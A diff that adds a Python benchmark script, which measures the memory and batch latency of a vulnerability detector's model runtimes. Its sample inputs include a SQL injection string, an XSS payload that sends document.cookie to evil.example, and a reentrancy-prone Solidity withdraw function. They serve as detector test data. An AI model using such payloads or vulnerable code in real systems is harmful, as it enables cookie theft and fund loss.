@@ -0,0 +1,146 @@
+"""Memory and batch latency of the detector model runtimes.
+
+Usage (from the backend directory):
+    python -m benchmarks.bench_ai_inference [--runtime numpy tflite:int8] [--batch-size 32]
+
+One model store is filled with every scanner type's model and its
+quantized variants, then each runtime is measured in a fresh process that
+loads all five models the way a scanner worker does. Memory is the
+resident set of that process: after its imports, including the model
+runtime's, and what loading and warming the models added on top. Results are written to
+benchmarks/results/ as JSON.
+
+Only servable precisions can be measured: AI_QUANTIZATION rejects float16,
+which is exported for its smaller file but never loaded by a worker.
+"""
+import argparse
+import json
+import os
+import resource
+import subprocess
+import sys
+import tempfile
+import time
+from datetime import datetime
+from typing import Any, Dict, List
+
+RESULTS_DIR = os.path.join(os.path.dirname(__file__), 'results')
+
+TEXTS = [
+    "SELECT * FROM users WHERE id = '{i}' OR '1'='1' -- injected through the search endpoint",
+    "GET /api/v1/users/{i} HTTP/1.1 200 application/json {{\"email\": \"user{i}@example.com\", \"token\": \"abc\"}}",
+    "<script>document.location='https://evil.example/?c='+document.cookie</script> reflected in page {i}",
+    "function withdraw(uint amount{i}) public {{ msg.sender.call.value(amount{i})(); balances[msg.sender] -= amount{i}; }}",
+]
+
+
+def rss_mb() -> float:
+    """Current resident set size of this process"""
+    try:
+        with open('/proc/self/statm') as f:
+            return int(f.read().split()[1]) * os.sysconf('SC_PAGE_SIZE') / 1024 / 1024
+    except (OSError, ValueError):
+        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+
+
+def prepare_store(model_dir: str, precisions: List[str]) -> None:
+    """Store a model per scanner type, with the given quantized variants"""
+    from app.core.ai.model_store import ModelStore
+    from app.core.ai.vulnerability_detector import VulnerabilityDetector
+
+    detector = VulnerabilityDetector()
+    detector.store = ModelStore(model_dir)
+    for scanner_type in detector.vulnerability_types:
+        detector.get_runtime(scanner_type)
+        for precision in precisions:
+            detector.export_quantized(scanner_type, precision)
+
+
+def measure_runtime(batch_size: int, iterations: int) -> Dict[str, Any]:
+    """Runs in the measured process, configured through AI_RUNTIME, AI_QUANTIZATION and AI_MODEL_DIR"""
+    from app.core.ai.quantization import _interpreter_class
+    from app.core.ai.vulnerability_detector import VulnerabilityDetector
+    from app.core.config import settings
+
+    if settings.AI_RUNTIME == 'tflite':
+        # Counted with the imports: without LiteRT installed this is all of TensorFlow
+        _interpreter_class()
+    detector = VulnerabilityDetector()
+    batch = detector.featurizer.transform(
+        TEXTS[i % len(TEXTS)].format(i=i) for i in range(batch_size)
+    )
+    before = rss_mb()
+    for scanner_type in detector.vulnerability_types:
+        detector._predict_batch(scanner_type, batch)
+    loaded = rss_mb()
+
+    latencies = {}
+    for scanner_type in detector.vulnerability_types:
+        start = time.perf_counter()
+        for _ in range(iterations):
+            detector._predict_batch(scanner_type, batch)
+        latencies[scanner_type] = (time.perf_counter() - start) / iterations * 1000
+    return {
+        'import_rss_mb': round(before, 1),
+        'model_rss_mb': round(loaded - before, 1),
+        'total_rss_mb': round(loaded, 1),
+        'batch_latency_ms': round(sum(latencies.values()) / len(latencies), 3),
+        'batch_latency_ms_by_type': {name: round(value, 3) for name, value in latencies.items()},
+    }
+
+
+def run_runtime(spec: str, model_dir: str, batch_size: int, iterations: int) -> Dict[str, Any]:
+    runtime, _, precision = spec.partition(':')
+    env = dict(os.environ, AI_RUNTIME=runtime, AI_MODEL_DIR=model_dir, AI_QUANTIZATION=precision or 'int8')
+    output = subprocess.run(
+        [sys.executable, '-m', 'benchmarks.bench_ai_inference', '--measure',
+         '--batch-size', str(batch_size), '--iterations', str(iterations)],
+        env=env, check=True, capture_output=True, text=True,
+        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    ).stdout
+    return {'runtime': spec, 'batch_size': batch_size, **json.loads(output.strip().splitlines()[-1])}
+
+
+def save_results(results: List[Dict[str, Any]], path: str) -> None:
+    with open(path, 'w') as f:
+        json.dump({'created_at': datetime.utcnow().isoformat(), 'results': results}, f, indent=2)
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--runtime', nargs='+', default=['numpy', 'tflite:int8'],
+                        help='runtime, or tflite:<precision>')
+    parser.add_argument('--batch-size', type=int, default=32)
+    parser.add_argument('--iterations', type=int, default=200)
+    parser.add_argument('--output', help='results file, by default a timestamped file in benchmarks/results')
+    parser.add_argument('--measure', action='store_true', help=argparse.SUPPRESS)
+    args = parser.parse_args()
+
+    if args.measure:
+        print(json.dumps(measure_runtime(args.batch_size, args.iterations)))
+        return 0
+    for spec in args.runtime:
+        runtime, _, precision = spec.partition(':')
+        if runtime not in ('numpy', 'keras', 'tflite') or (precision and precision != 'int8'):
+            parser.error(f"cannot measure {spec!r}: only numpy, keras and tflite:int8 can be served")
+
+    model_dir = tempfile.mkdtemp(prefix='bench_models_')
+    precisions = sorted({spec.partition(':')[2] for spec in args.runtime if spec.startswith('tflite')} - {''})
+    prepare_store(model_dir, precisions or ['int8'])
+
+    results = []
+    for spec in args.runtime:
+        result = run_runtime(spec, model_dir, args.batch_size, args.iterations)
+        results.append(result)
+        print(f"{spec:16} models {result['model_rss_mb']:7.1f} MB  total {result['total_rss_mb']:7.1f} MB  "
+              f"batch of {args.batch_size}: {result['batch_latency_ms']:.3f} ms")
+
+    os.makedirs(RESULTS_DIR, exist_ok=True)
+    output = args.output or os.path.join(RESULTS_DIR, f"ai_inference_{datetime.now():%Y%m%d_%H%M%S}.json")
+    save_results(results, output)
+    print(f"Results written to {output}")
+    return 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())